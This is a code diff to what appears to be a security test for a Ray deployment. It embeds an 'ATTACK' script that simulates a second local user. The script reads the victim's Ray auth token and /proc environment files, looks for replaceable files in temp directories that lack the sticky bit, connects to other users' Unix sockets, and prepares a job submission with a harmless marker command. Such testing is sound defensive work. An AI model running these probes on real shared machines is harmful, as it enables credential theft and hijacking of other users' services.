@@ -55,7 +55,7 @@ main(sys.argv[1:])
 """
 # Another user, who knows what everybody can see: the ports, the command lines, where things are by default.
 ATTACK = """
-import json, os, socket, sys, urllib.error, urllib.request
+import json, os, socket, stat, sys, urllib.error, urllib.request
 from pathlib import Path
 victim, temporary, address, dashboard = sys.argv[1:5]
 got = []
@@ -68,10 +68,11 @@ for path in (Path(victim, ".ray", "auth_token"), *Path("/proc").glob("[0-9]*/env
 for folder, _, names in os.walk(temporary):
     for name in names:
         path = Path(folder, name)
-        if os.stat(path).st_uid == os.getuid(): continue
-        if os.access(folder, os.W_OK) and not os.stat(folder).st_mode & 0o1000:
+        found = os.lstat(path)
+        if found.st_uid == os.getuid(): continue
+        if os.access(folder, os.W_OK) and not os.stat(folder).st_mode & stat.S_ISVTX:
             got.append(f"can replace {path}")
-        if path.is_socket():
+        if stat.S_ISSOCK(found.st_mode):
             try: socket.socket(socket.AF_UNIX).connect(str(path)); got.append(f"connected to {path}")
             except OSError: pass
 body = json.dumps({"entrypoint": f"touch {victim}/ran"}).encode()
